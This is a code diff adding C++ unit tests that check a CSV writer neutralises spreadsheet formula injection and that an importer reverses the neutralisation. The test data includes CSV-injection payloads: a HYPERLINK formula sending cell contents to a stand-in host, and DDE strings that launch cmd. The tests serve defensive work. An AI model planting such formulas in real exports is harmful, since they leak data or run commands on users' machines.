@@ -2,6 +2,10 @@
 
 #include <doctest/doctest.h>
 
+#include <string>
+#include <utility>
+#include <vector>
+
 using namespace consult::render;
 
 TEST_CASE("tables align Chinese text by display width") {
@@ -36,4 +40,35 @@ TEST_CASE("csv quotes what must be quoted") {
 
 TEST_CASE("key-value lines align their keys") {
   CHECK(key_values({{"Issue", "1"}, {"社区", "和平"}}) == "Issue: 1\n社区:  和平\n");
+}
+
+TEST_CASE("csv cells a spreadsheet would run are written as text, and read back") {
+  // What a suggestion box can hold, as OWASP's CSV-injection cases list them.
+  const std::vector<std::pair<std::string, std::string>> cases = {
+      {"=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\""},
+      {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+      {"-2+3", "'-2+3"},
+      {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+      {"\t=1+1", "'\t=1+1"},
+      {"\r=1+1", "\"'\r=1+1\""},
+  };
+  for (const auto& [cell, written] : cases) {
+    CAPTURE(cell);
+    CHECK(csv_field(cell) == written);
+  }
+  // Numbers stay numbers: a sign, thousands separators, decimals, percent.
+  for (const std::string n : {"-5", "+86", "12.5%", "0"})
+    CHECK(csv_field(n) == n);
+  CHECK(csv_field("-1,234.50") == "\"-1,234.50\""); // quoted for its comma, not neutralised
+  // Text that only contains such a character elsewhere is left alone.
+  CHECK(csv_field("屋顶=漏水") == "屋顶=漏水");
+  CHECK(csv_field("a-b") == "a-b");
+  // Read back (consult's importer): the apostrophe it added comes off; one a
+  // person typed before ordinary text stays.
+  CHECK(unneutralise_csv("'=1+1") == "=1+1");
+  CHECK(unneutralise_csv("'\t=1+1") == "\t=1+1");
+  CHECK(unneutralise_csv("'-2+3") == "-2+3");
+  CHECK(unneutralise_csv("'-5") == "'-5");
+  CHECK(unneutralise_csv("'abc") == "'abc");
+  CHECK(unneutralise_csv("=1+1") == "=1+1");
 }
